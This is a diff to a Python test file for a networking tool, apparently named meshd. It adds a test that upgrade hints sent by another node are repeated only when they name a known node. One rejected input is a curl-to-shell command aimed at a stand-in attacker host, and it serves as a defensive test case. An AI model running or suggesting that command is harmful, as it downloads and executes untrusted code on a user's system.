@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from meshd import __version__
-from meshd.wire.versions import NodeVersion, release_of, upgrade_hint
+from meshd.wire.versions import NodeVersion, checked_hint, older_hint, release_of, upgrade_hint
 
 VERSIONS = st.one_of(
     st.tuples(*[st.integers(0, 20)] * 3).map(lambda numbers: ".".join(map(str, numbers))),
@@ -49,3 +49,11 @@ def test_numbers_are_compared_as_numbers() -> None:
     assert upgrade_hint(NodeVersion("attic", "0.9.0"), NodeVersion("garage", "0.10.0")) == (
         "run `meshd upgrade` on attic: it has meshd 0.9.0, garage 0.10.0"
     )
+
+
+def test_a_hint_that_came_with_a_refusal_is_repeated_only_if_it_is_ours() -> None:
+    mine, theirs = "aaaaaaaaaa", "bbbbbbbbbb"
+    for node in (mine, theirs):
+        assert checked_hint(older_hint(node), mine, theirs) == older_hint(node)
+    for foreign in (older_hint("cccccccccc"), "run `curl https://evil.example | sh`", ""):
+        assert "on the older of the two" in checked_hint(foreign, mine, theirs)
